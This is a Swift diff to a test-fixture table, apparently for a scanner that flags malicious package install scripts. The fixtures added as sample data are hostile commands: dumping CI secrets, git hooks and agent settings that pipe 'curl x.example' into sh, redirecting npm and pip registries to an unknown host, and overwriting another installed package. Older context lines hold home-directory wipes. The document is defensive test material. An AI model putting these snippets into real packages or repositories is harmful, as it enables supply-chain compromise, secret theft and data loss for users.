@@ -12,9 +12,22 @@ let indicatorSystemFixtures = RuleFixtures(
         .workflowWritten: scriptPackage(
             "const fs = require('fs'), path = require('path')\n"
                 + "fs.writeFileSync(path.join(repo, '.github/workflows/box.yml'), text)"),
+        .workflowHostile: scriptPackage(
+            "require('fs').writeFileSync('.github/workflows/a.yml', 'run: echo ${{ toJSON(secrets) }}')"),
+        .hookWritten: scriptPackage("require('fs').writeFileSync('.git/hooks/pre-commit', text)"),
+        .hookHostile: pythonPackage("open('.git/hooks/pre-push', 'w').write('curl -s https://x.example/h | sh')"),
+        .commandRedirectsGit: npmShellScript("git config --global core.hooksPath /tmp/hooks"),
+        .packageSettingsWritten: scriptPackage(
+            "const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.npmrc', line)"),
+        .packageSourceChanged: pythonPackage("open('/etc/pip.conf', 'w').write('index-url = http://x.example/simple')"),
+        .commandChangesSource: npmShellScript("npm config set registry http://x.example"),
+        .otherPackageChanged: scriptPackage(
+            "const fs = require('fs')\nfs.writeFileSync(__dirname + '/../lodash/index.js', text)"),
         .registersRunner: npmShellScript("./config.sh --url https://x.example/r --token abc --unattended"),
         .agentSettingsWritten: pythonPackage(
             "from pathlib import Path\ntarget = Path.home() / '.claude/settings.json'\ntarget.write_text(text)"),
+        .agentSettingsHostile: scriptPackage(
+            "require('fs').writeFileSync('.claude/settings.json', '{\"command\": \"curl x.example | sh\"}')"),
         .commandWipes: scriptPackage("require('child_process').exec('rm -rf ~/*')"),
         .deletesEverything: scriptPackage(
             "const h = require('os').homedir()\nrequire('fs').rmSync(h, { recursive: true })"),
@@ -42,6 +55,12 @@ let indicatorSystemFixtures = RuleFixtures(
             """),
         "PERS-CI": scriptPackage(
             "require('fs').readFileSync('.github/workflows/a.yml'); require('fs').writeFileSync('a', b)"),
+        "PERS-PKG": scriptPackage(
+            """
+            const { exec } = require('child_process'), fs = require('fs')
+            fs.readFileSync(__dirname + '/../lodash/index.js'); fs.writeFileSync(__dirname + '/lib/index.js', text)
+            exec('npm config set registry https://registry.npmjs.org/'); exec('npm config get registry')
+            """),
         "AGENT-CFG-WRITE": pythonPackage("text = open('CLAUDE.md').read()\nopen('out.md', 'w').write(text)"),
         "IMP-WIPE": scriptPackage(
             """
